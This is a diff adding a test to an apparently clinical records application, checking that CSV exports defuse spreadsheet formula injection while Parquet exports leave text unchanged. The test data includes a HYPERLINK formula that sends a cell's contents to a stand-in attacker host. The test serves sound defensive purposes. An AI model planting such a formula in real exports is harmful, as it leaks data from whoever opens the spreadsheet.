@@ -269,3 +269,21 @@ def test_a_client_export_lists_who_read_or_changed_their_record(world: World) ->
     log = [(e["actor_id"], e["action"], e["what"]) for e in document["access_log"]]
     assert log[0] == (world.alice.user_id, "write", "create")
     assert (world.alice.user_id, "read", "timeline") in log
+
+
+def test_a_csv_export_neutralises_text_that_a_spreadsheet_would_run(
+    world: World, clock: Clock
+) -> None:
+    payload = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+    goals.agree_goals(
+        world.ctx, actor=world.alice, episode_id=world.sarah_episode, goals=[payload, "-quit"]
+    )
+    files = exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=False)
+    texts = set(pd.read_csv(io.BytesIO(files["goals.csv"]))["text"])
+    assert {"'" + payload, "'-quit"} <= texts
+    assert payload not in texts
+    # The same goals in Parquet are data for programs, not spreadsheets: unchanged.
+    parquet = exports.export_clinic(
+        world.ctx, actor=world.ada, format="parquet", deidentified=False
+    )
+    assert payload in set(pd.read_parquet(io.BytesIO(parquet["goals.parquet"]))["text"])
